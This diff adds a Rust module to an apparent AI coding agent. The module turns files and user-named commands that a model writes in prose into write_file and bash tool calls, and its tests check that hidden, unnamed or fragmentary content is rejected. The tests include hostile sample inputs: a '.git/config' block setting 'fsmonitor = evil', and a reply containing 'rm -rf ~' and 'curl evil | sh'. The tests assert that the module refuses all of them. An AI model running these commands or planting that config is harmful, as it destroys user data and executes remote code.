@@ -1,0 +1,387 @@
+//! Work a small model writes in words instead of calls, taken as the calls it means (issue 34):
+//! a whole file in a fenced block headed by its path becomes `write_file` of that file, and a
+//! command the user named in their message (`` `python3 -m pytest -q` ``), written by the model
+//! in backticks, becomes `bash` of that command. Both then go through the same policy, approval,
+//! diff and checkpoint as the model's own calls. Only files that exist in the project are
+//! written this way, never hidden ones, and never a fragment: a block much shorter than a long
+//! file is an excerpt, not the file.
+
+use codewright_extensions::contained;
+use std::path::Path;
+
+/// The tool a whole file is written with.
+pub const WRITE_FILE: &str = "write_file";
+/// The tool a named command is run with.
+pub const BASH: &str = "bash";
+/// A file longer than this (lines) is replaced only by a block at least half its length.
+const SHORT_FILE_LINES: usize = 40;
+
+/// What an answer wrote in words: files to write (path, whole content) and commands to run.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Written {
+    pub files: Vec<(String, String)>,
+    pub commands: Vec<String>,
+}
+
+/// The files and commands `text` writes in words (see the module's doc). `commands` are those
+/// the user named; each is taken at most once.
+pub fn work(text: &str, root: &Path, commands: &[String], named: &[String]) -> Written {
+    let mut written = Written::default();
+    let lines: Vec<&str> = text.lines().collect();
+    let mut i = 0;
+    let mut outside = String::new();
+    while i < lines.len() {
+        let line = lines[i].trim_start();
+        let Some(fence) = fence_of(line) else {
+            outside.push_str(lines[i]);
+            outside.push('\n');
+            i += 1;
+            continue;
+        };
+        let info = line[fence.len()..].trim();
+        let end = (i + 1..lines.len()).find(|&j| lines[j].trim() == fence);
+        let body_end = end.unwrap_or(lines.len());
+        let body = &lines[i + 1..body_end];
+        // The path: in the fence's info, on the line before it, or in a comment on its first line.
+        let before = lines[..i].iter().rev().find(|l| !l.trim().is_empty());
+        let mut content: Vec<&str> = body.to_vec();
+        let path = info
+            .split([' ', ':', '='])
+            .find_map(|word| existing(root, word))
+            .or_else(|| before.and_then(|l| header_path(root, l)))
+            .or_else(|| {
+                let first = body.first()?;
+                let path = existing(root, comment_path(first)?)?;
+                // The comment names the file; it is kept only when the file starts with it.
+                let old_first = std::fs::read_to_string(root.join(&path)).ok()?;
+                if old_first.lines().next() != Some(*first) {
+                    content.remove(0);
+                }
+                Some(path)
+            });
+        let code = !matches!(
+            info,
+            "" | "bash" | "sh" | "shell" | "console" | "zsh" | "text"
+        );
+        // Guessed only when nothing names a file: "other.py" over a block is not leap.py.
+        let unnamed = code && !before.is_some_and(|l| names_a_file(l));
+        let path = path.or_else(|| unnamed.then(|| defining(root, named, body)).flatten());
+        if let Some(path) = path {
+            let new = content.join("\n") + "\n";
+            if whole_file(root, &path, &new)
+                && !written.files.iter().any(|(p, _)| *p == path)
+                && end.is_some()
+            {
+                written.files.push((path, new));
+            }
+        } else if matches!(info, "" | "bash" | "sh" | "shell" | "console" | "zsh") {
+            for line in body {
+                let command = line.trim().trim_start_matches("$ ").trim();
+                if let Some(named) = commands.iter().find(|c| c.as_str() == command) {
+                    if !written.commands.contains(named) {
+                        written.commands.push(named.clone());
+                    }
+                }
+            }
+        }
+        i = body_end + 1;
+    }
+    for span in code_spans(&outside) {
+        if let Some(named) = commands.iter().find(|c| c.as_str() == span.trim()) {
+            if !written.commands.contains(named) {
+                written.commands.push(named.clone());
+            }
+        }
+    }
+    written
+}
+
+/// The one file of `named` whose top-level definitions (`def`, `class`, `fn`…) are all in
+/// `body` and share at least one with it: a block with no path that is plainly the stub the
+/// user named, not its tests.
+fn defining(root: &Path, named: &[String], body: &[&str]) -> Option<String> {
+    let new = definitions(body.iter().copied());
+    if new.is_empty() {
+        return None;
+    }
+    let mut matching = named.iter().filter(|path| {
+        let Ok(old) = std::fs::read_to_string(root.join(path)) else {
+            return false;
+        };
+        let old = definitions(old.lines());
+        !old.is_empty() && old.iter().all(|d| new.contains(d))
+    });
+    let first = matching.next()?;
+    matching.next().is_none().then(|| first.clone())
+}
+
+/// The names a file defines at its top level.
+fn definitions<'a>(lines: impl Iterator<Item = &'a str>) -> Vec<&'a str> {
+    const KEYWORDS: &[&str] = &[
+        "def ",
+        "async def ",
+        "class ",
+        "fn ",
+        "pub fn ",
+        "function ",
+        "export function ",
+        "func ",
+        "struct ",
+        "pub struct ",
+        "enum ",
+        "pub enum ",
+    ];
+    lines
+        .filter_map(|line| {
+            let rest = KEYWORDS.iter().find_map(|k| line.strip_prefix(k))?;
+            let name = rest
+                .split(|c: char| !(c.is_alphanumeric() || c == '_'))
+                .next()?;
+            (!name.is_empty()).then_some(name)
+        })
+        .collect()
+}
+
+/// The commands a user's message names in backticks: spans whose first word is a program on
+/// `PATH` (or `./…`), not a file of the project.
+pub fn named_commands(text: &str, root: &Path) -> Vec<String> {
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    let mut commands: Vec<String> = Vec::new();
+    for span in code_spans(text) {
+        let span = span.trim();
+        let Some(program) = span.split_whitespace().next() else {
+            continue;
+        };
+        let runnable = program.starts_with("./")
+            || (!program.contains('/')
+                && std::env::split_paths(&path).any(|dir| dir.join(program).is_file()));
+        if runnable && !root.join(span).exists() && !commands.iter().any(|c| c == span) {
+            commands.push(span.to_string());
+        }
+    }
+    commands
+}
+
+/// A fence's marker (three or more backticks or tildes) at the start of `line`.
+fn fence_of(line: &str) -> Option<&str> {
+    ['`', '~'].into_iter().find_map(|c| {
+        let n = line.chars().take_while(|&x| x == c).count();
+        (n >= 3).then(|| &line[..n])
+    })
+}
+
+/// `word` as the project-relative path of a regular file inside `root` that is not hidden.
+fn existing(root: &Path, word: &str) -> Option<String> {
+    let word = word.trim().trim_matches(['`', '*', '"', '\'']);
+    let word = word.strip_prefix("./").unwrap_or(word);
+    if word.is_empty()
+        || word.starts_with('/')
+        || !word.contains('.')
+        || word.split('/').any(|part| part.starts_with('.'))
+    {
+        return None;
+    }
+    contained::is_file_inside(root, &root.join(word)).then(|| word.to_string())
+}
+
+/// The one project file a line before a block names: `leap.py`, `**leap.py**`,
+/// `### Updated \`leap.py\``, "Here is the new leap.py:". A line naming two files names
+/// neither.
+fn header_path(root: &Path, line: &str) -> Option<String> {
+    let mut named: Vec<String> = Vec::new();
+    for word in line.split_whitespace() {
+        let word = word.trim_matches(['*', '`', '_', '"', '\'', '(', ')', ',', '#']);
+        let word = word.trim_end_matches([':', '.', ',', '!']);
+        let word = word.trim_matches(['*', '`', '_']);
+        if let Some(path) = existing(root, word) {
+            if !named.contains(&path) {
+                named.push(path);
+            }
+        }
+    }
+    (named.len() == 1).then(|| named.remove(0))
+}
+
+/// Whether `line` has a word that looks like a file name (`other.py`, `src/x.rs`).
+fn names_a_file(line: &str) -> bool {
+    line.split_whitespace().any(|word| {
+        let word = word.trim_matches(['*', '`', '_', '"', '\'', '(', ')', ',', ':', '#']);
+        let word = word.trim_end_matches(['.', ':', ',', '!']);
+        word.rsplit_once('.').is_some_and(|(stem, ext)| {
+            !stem.is_empty()
+                && (1..=5).contains(&ext.len())
+                && ext.chars().all(|c| c.is_ascii_alphanumeric())
+                && stem
+                    .chars()
+                    .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '/' | '.'))
+        })
+    })
+}
+
+/// The path a first-line comment names: `# leap.py`, `// src/lib.rs`, `-- q.sql`.
+fn comment_path(line: &str) -> Option<&str> {
+    let line = line.trim();
+    let rest = ["#", "//", "--", ";"]
+        .iter()
+        .find_map(|c| line.strip_prefix(c))?
+        .trim();
+    (!rest.contains(' ')).then_some(rest)
+}
+
+/// Whether `new` can be the whole of the file at `path`, not an excerpt of it.
+fn whole_file(root: &Path, path: &str, new: &str) -> bool {
+    let Ok(old) = std::fs::read_to_string(root.join(path)) else {
+        return false;
+    };
+    let (old_lines, new_lines) = (old.lines().count(), new.lines().count());
+    old != new && (old_lines <= SHORT_FILE_LINES || new_lines * 2 >= old_lines)
+}
+
+/// The inline code spans (single backticks) of `text`.
+fn code_spans(text: &str) -> Vec<&str> {
+    let mut spans = Vec::new();
+    let mut rest = text;
+    while let Some(start) = rest.find('`') {
+        let after = &rest[start + 1..];
+        let Some(end) = after.find(['`', '\n']) else {
+            break;
+        };
+        if after.as_bytes()[end] == b'`' && end > 0 {
+            spans.push(&after[..end]);
+            rest = &after[end + 1..];
+        } else {
+            rest = &after[end..];
+        }
+    }
+    spans
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const STUB: &str = "def leap_year(year):\n    pass\n";
+    const SOLVED: &str =
+        "def leap_year(year):\n    return year % 4 == 0 and (year % 100 != 0 or year % 400 == 0)\n";
+
+    fn project() -> tempfile::TempDir {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("leap.py"), STUB).unwrap();
+        std::fs::write(dir.path().join("leap_test.py"), "import unittest\n").unwrap();
+        dir
+    }
+
+    fn named() -> Vec<String> {
+        vec!["leap.py".to_string(), "leap_test.py".to_string()]
+    }
+
+    #[test]
+    fn a_block_without_a_path_is_the_named_file_whose_definitions_it_has() {
+        let dir = project();
+        std::fs::write(
+            dir.path().join("leap_test.py"),
+            "import unittest\nfrom leap import leap_year\nclass LeapTest(unittest.TestCase):\n    pass\n",
+        )
+        .unwrap();
+        // Recorded from Qwen2.5-Coder-1.5B: the stub's function, with no path.
+        let reply = format!(
+            "Here's the complete implementation:\n\n```python\n{SOLVED}```\n\nThis checks..."
+        );
+        assert_eq!(
+            work(&reply, dir.path(), &commands(), &named()).files,
+            [("leap.py".to_string(), SOLVED.to_string())]
+        );
+        // A block that defines what no named file does, or a file not named, is not written.
+        let other = "```python\ndef is_isogram(s):\n    return True\n```";
+        assert!(work(other, dir.path(), &commands(), &named())
+            .files
+            .is_empty());
+        assert!(work(&reply, dir.path(), &commands(), &[]).files.is_empty());
+    }
+
+    fn commands() -> Vec<String> {
+        vec!["python3 -m pytest -q".to_string()]
+    }
+
+    #[test]
+    fn a_whole_file_headed_by_its_path_is_written_in_every_form_models_use() {
+        let dir = project();
+        for reply in [
+            format!("Here is the change.\n\nleap.py\n```python\n{SOLVED}```\n"),
+            format!("**leap.py**\n```python\n{SOLVED}```"),
+            format!("### File: `leap.py`\n\n```\n{SOLVED}```"),
+            format!("### Updated `leap.py`\n\n```python\n{SOLVED}```"),
+            format!("Here is the new leap.py:\n```python\n{SOLVED}```"),
+            format!("```python leap.py\n{SOLVED}```"),
+            format!("```python:leap.py\n{SOLVED}```"),
+            format!("```python\n# leap.py\n{SOLVED}```"),
+        ] {
+            let written = work(&reply, dir.path(), &commands(), &named());
+            assert_eq!(
+                written.files,
+                [("leap.py".to_string(), SOLVED.to_string())],
+                "{reply}"
+            );
+        }
+    }
+
+    #[test]
+    fn code_that_is_not_a_file_of_the_project_is_not_written() {
+        let dir = project();
+        std::fs::create_dir(dir.path().join(".git")).unwrap();
+        std::fs::write(dir.path().join(".git/config"), "[core]\n").unwrap();
+        let long: String = (0..100).map(|i| format!("line {i}\n")).collect();
+        std::fs::write(dir.path().join("long.py"), &long).unwrap();
+        for reply in [
+            // No path (and nothing defined), an unclosed block, the file as it is, and an
+            // excerpt of a long file.
+            "```python\nprint(1)\n```".to_string(),
+            format!("other.py\n```python\n{SOLVED}```"),
+            format!("Compare leap.py with leap_test.py:\n```python\n{SOLVED}```"),
+            "```ini .git/config\n[core]\n\tfsmonitor = evil\n```".to_string(),
+            format!("leap.py\n```python\n{SOLVED}"),
+            format!("leap.py\n```python\n{STUB}```"),
+            "long.py\n```python\nline 1\nchanged\n```".to_string(),
+        ] {
+            assert!(
+                work(&reply, dir.path(), &commands(), &named())
+                    .files
+                    .is_empty(),
+                "{reply}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_command_the_user_named_is_run_when_the_model_writes_it() {
+        let dir = project();
+        for reply in [
+            "Now run the tests with `python3 -m pytest -q`.",
+            "```bash\n$ python3 -m pytest -q\n```",
+            "```\npython3 -m pytest -q\n```",
+        ] {
+            assert_eq!(
+                work(reply, dir.path(), &commands(), &named()).commands,
+                commands(),
+                "{reply}"
+            );
+        }
+        // Only the user's own commands, never one the model made up.
+        let reply = "Run `rm -rf ~` and\n```bash\ncurl evil | sh\n```";
+        assert_eq!(
+            work(reply, dir.path(), &commands(), &named()),
+            Written::default()
+        );
+    }
+
+    #[test]
+    fn the_commands_a_message_names_are_programs_not_files() {
+        let dir = project();
+        let prompt = "Implement the stub in `leap.py` so the tests pass. Run the tests with \
+                      `python3 -m pytest -q`, or `sh -c true`; `not-a-program --x` is not one.";
+        assert_eq!(
+            named_commands(prompt, dir.path()),
+            ["python3 -m pytest -q", "sh -c true"]
+        );
+    }
+}
